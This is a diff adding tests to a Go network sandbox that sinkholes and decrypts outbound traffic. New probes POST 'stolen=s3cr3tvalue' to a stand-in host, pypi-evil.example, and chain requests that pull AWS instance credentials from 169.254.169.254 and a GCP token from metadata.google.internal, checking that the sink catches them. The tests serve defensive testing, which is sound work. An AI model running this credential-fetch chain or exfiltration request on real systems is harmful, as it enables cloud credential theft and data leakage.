@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"context"
 	"crypto/tls"
+	"crypto/x509"
 	"encoding/json"
 	"fmt"
 	"io"
@@ -11,6 +12,7 @@ import (
 	"net/http"
 	"os"
 	"os/exec"
+	"sort"
 	"strings"
 	"syscall"
 	"testing"
@@ -74,6 +76,7 @@ func child(mode, probe string) int {
 		fmt.Fprintln(os.Stderr, "start:", err)
 		return 2
 	}
+	stackCA = s.CAPEM()
 	res, err := probes[probe]()
 	rep.Result = res
 	if err != nil {
@@ -125,7 +128,64 @@ func lookupA(name string) (string, error) {
 	return strings.Join(addrs, ","), nil
 }
 
+// stackCA is the child's stack's CA certificate, as the sandbox's trust
+// store holds it.
+var stackCA []byte
+
+// get does one HTTP request through the stack, trusting its CA, and
+// returns the status and body.
+func get(method, url string, body string, hdr ...string) (string, error) {
+	pool := x509.NewCertPool()
+	pool.AppendCertsFromPEM(stackCA)
+	c := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{
+		TLSClientConfig: &tls.Config{RootCAs: pool},
+		DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
+			host, port, _ := net.SplitHostPort(addr)
+			if net.ParseIP(host) == nil {
+				a, err := lookupA(host)
+				if err != nil {
+					return nil, err
+				}
+				host = a
+			}
+			return net.Dial(network, net.JoinHostPort(host, port))
+		}}}
+	req, err := http.NewRequest(method, url, strings.NewReader(body))
+	if err != nil {
+		return "", err
+	}
+	for i := 0; i+1 < len(hdr); i += 2 {
+		req.Header.Set(hdr[i], hdr[i+1])
+	}
+	resp, err := c.Do(req)
+	if err != nil {
+		return "", err
+	}
+	defer resp.Body.Close()
+	b, err := io.ReadAll(resp.Body)
+	return resp.Status + " " + string(b), err
+}
+
 var probes = map[string]func() (string, error){
+	"https": func() (string, error) {
+		return get("POST", "https://pypi-evil.example/x?k=1", "stolen=s3cr3tvalue")
+	},
+	"imds": func() (string, error) {
+		tok, err := get("PUT", "http://169.254.169.254/latest/api/token", "", "X-aws-ec2-metadata-token-ttl-seconds", "21600")
+		if err != nil {
+			return "", err
+		}
+		role, err := get("GET", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "", "X-aws-ec2-metadata-token", strings.TrimPrefix(tok, "200 OK "))
+		if err != nil {
+			return "", err
+		}
+		creds, err := get("GET", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"+strings.TrimPrefix(role, "200 OK "), "")
+		if err != nil {
+			return "", err
+		}
+		gcp, err := get("GET", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "", "Metadata-Flavor", "Google")
+		return creds + "\n" + gcp, err
+	},
 	"http": func() (string, error) {
 		a, err := lookupA("evil.example.com")
 		if err != nil {
@@ -288,6 +348,46 @@ func TestSinkholeTLS(t *testing.T) {
 	c := find(rep.Events, "connect", "198.51.100.1:443")
 	if c == nil || c.Name != "bank.example" || !strings.Contains(c.Detail, "tls sni=bank.example") {
 		t.Fatalf("events: %+v (probe %q)", rep.Events, rep.Err)
+	}
+}
+
+// TestSinkholeHTTPS: an HTTPS request from a client that trusts the
+// system store (the run's CA) reaches the sink, which reads it in clear:
+// method, host, path and body are in the event.
+func TestSinkholeHTTPS(t *testing.T) {
+	rep := runChild(t, "sinkhole", "https")
+	if rep.Err != "" || rep.Result != "200 OK " {
+		t.Fatalf("probe: %q %q", rep.Result, rep.Err)
+	}
+	c := findDetail(rep.Events, "connect", "sinkholed tcp tls sni=pypi-evil.example decrypted https POST")
+	if c == nil || c.Name != "pypi-evil.example" || c.Path != "/x?k=1" || !strings.Contains(c.Data, "stolen=s3cr3tvalue") ||
+		!strings.HasPrefix(c.Data, "POST /x?k=1 HTTP/1.1") {
+		t.Fatalf("events: %+v", rep.Events)
+	}
+}
+
+// TestSinkholeMetadata: 169.254.169.254 (IMDSv2: token, role, creds) and
+// metadata.google.internal answer like a cloud instance, and the sink
+// records that it served credentials.
+func TestSinkholeMetadata(t *testing.T) {
+	rep := runChild(t, "sinkhole", "imds")
+	if rep.Err != "" || !strings.Contains(rep.Result, `"AccessKeyId": "ASIA`) || !strings.Contains(rep.Result, `"SecretAccessKey"`) ||
+		!strings.Contains(rep.Result, `"access_token":"ya29.`) {
+		t.Fatalf("probe: %q %q", rep.Result, rep.Err)
+	}
+	var served []string
+	for _, e := range rep.Events {
+		if e.Kind == moat.KindMetadata {
+			served = append(served, e.Path+" "+e.Detail)
+		}
+	}
+	sort.Strings(served) // flows are recorded as they end
+	if len(served) != 2 || !strings.HasPrefix(served[0], "/computeMetadata/") || !strings.Contains(served[0], "gcp-metadata-token") ||
+		!strings.HasPrefix(served[1], "/latest/meta-data/iam/security-credentials/") || !strings.Contains(served[1], "imds-aws-secret-access-key") {
+		t.Fatalf("metadata events %q in %+v", served, rep.Events)
+	}
+	if d := findDetail(rep.Events, "dns", "sinkholed A 169.254.169.254"); d == nil || d.Name != "metadata.google.internal" {
+		t.Fatalf("dns: %+v", rep.Events)
 	}
 }
 
